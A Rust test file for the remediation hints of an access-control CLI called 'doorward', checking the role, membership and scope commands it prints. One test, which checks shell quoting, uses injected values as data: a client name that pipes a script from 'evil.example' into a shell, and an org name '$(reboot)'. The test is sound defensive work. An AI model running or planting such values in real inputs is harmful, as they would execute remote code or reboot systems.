//! The remediation of each rule.

use super::*;

fn case<'a>(rule: &'a str, org: Option<&'a str>, roles: &'a [String]) -> Case<'a> {
    Case {
        rule,
        actor: Some(Actor::Person("alice".to_owned())),
        client: Some("app"),
        org,
        missing: &[],
        roles,
        place: None,
        rejection: None,
    }
}

#[test]
fn commands_carry_real_names() {
    let roles = ["manager".to_owned(), "reader".to_owned()];
    let table: &[(&str, Option<&str>, &[&str])] = &[
        (
            "needs_permission",
            Some("acme"),
            &[
                "doorward role assign --user alice --role manager --org acme",
                "doorward role assign --user alice --role reader --org acme",
            ],
        ),
        (
            "more_than_held",
            None,
            &[
                "doorward role assign --user alice --role manager",
                "doorward role assign --user alice --role reader",
            ],
        ),
        (
            "owners_only",
            Some("acme"),
            &["doorward org add-member acme --owner --user alice"],
        ),
        (
            "permission-denied",
            Some("acme"),
            &["doorward org add-member acme --user alice"],
        ),
        (
            "client-not-first-party",
            None,
            &["if it is the operator's own: doorward client update app --first-party=true"],
        ),
        (
            "email-not-verified",
            None,
            &["follow the mailed link, or: doorward user verify-email alice"],
        ),
        ("invalid-token", None, &["sign in again"]),
        (
            "site_not_allowed",
            None,
            &["give the user a role, group or permission that the rule names"],
        ),
        (
            "site_no_rule",
            None,
            &["change the rules: doorward site update"],
        ),
        ("not-found", None, &[]),
    ];
    for (rule, org, expected) in table {
        assert_eq!(commands(&case(rule, *org, &roles)), *expected, "{rule}");
    }
}

/// A request chooses the client and the organization: the printed command runs nothing else.
#[test]
fn chosen_names_are_quoted_for_shell() {
    let mut one = case("client-not-first-party", None, &[]);
    one.client = Some("x; curl evil.example | sh");
    assert_eq!(
        commands(&one),
        [
            "if it is the operator's own: doorward client update 'x; curl evil.example | sh' \
             --first-party=true"
        ]
    );
    let roles = ["reader".to_owned()];
    for rule in ["permission-denied", "owners_only", "needs_permission"] {
        for command in commands(&case(rule, Some("$(reboot)"), &roles)) {
            assert!(command.contains("'$(reboot)'"), "{rule}: {command}");
        }
    }
    let place = ResourceLocation::Person("o'neil".to_owned());
    let mut one = case(OUT_OF_SCOPE, Some("a b"), &[]);
    one.place = Some(&place);
    assert_eq!(
        commands(&one),
        [r"doorward org add-member 'a b' --user 'o'\''neil'"]
    );
}

/// `--scope` replaces the whole list, and would take the other scopes away.
#[test]
fn missing_scope_is_added() {
    let missing = ["admin".to_owned()];
    let mut one = case("needs_scope", None, &[]);
    one.missing = &missing;
    assert_eq!(
        commands(&one),
        [
            "request the scope `admin`; if the client does not have it yet: doorward client update \
             app --add-scope admin"
        ]
    );
}

#[test]
fn missing_permission_without_role_requires_new_role() {
    let missing = ["users:read".to_owned(), "users:write".to_owned()];
    let mut one = case("needs_permission", Some("acme"), &[]);
    one.missing = &missing;
    let expected = [
        "doorward role create ROLE --permission users:read --permission users:write",
        "doorward role assign --user alice --role ROLE --org acme",
    ];
    assert_eq!(commands(&one), expected);
}

#[test]
fn service_is_named_as_client() {
    let roles = ["reader".to_owned()];
    let mut one = case("needs_permission", None, &roles);
    one.actor = Some(Actor::Client("nightly".to_owned()));
    assert_eq!(
        commands(&one),
        ["doorward role assign --client nightly --role reader"]
    );
}

#[test]
fn hidden_resource_is_named_with_location() {
    let table = [
        (
            ResourceLocation::In(Some("zeta".to_owned())),
            Some("use a token of the organization zeta"),
        ),
        (
            ResourceLocation::Person("bob".to_owned()),
            Some("doorward org add-member acme --user bob"),
        ),
        (
            ResourceLocation::In(None),
            Some("it belongs to no organization: use a token without one"),
        ),
        (ResourceLocation::Nowhere, None),
    ];
    for (place, expected) in table {
        let mut one = case(OUT_OF_SCOPE, Some("acme"), &[]);
        one.place = Some(&place);
        assert_eq!(
            commands(&one).first().map(String::as_str),
            expected,
            "{place:?}"
        );
    }
}

#[test]
fn role_that_rule_of_site_names_is_assigned() {
    let (missing, roles) = (["editor".to_owned()], ["editor".to_owned()]);
    let mut one = case("site_not_allowed", None, &roles);
    one.missing = &missing;
    let expected = ["doorward role assign --user alice --role editor"];
    assert_eq!(commands(&one), expected);
    assert!(is_by_role("site_not_allowed"));
}
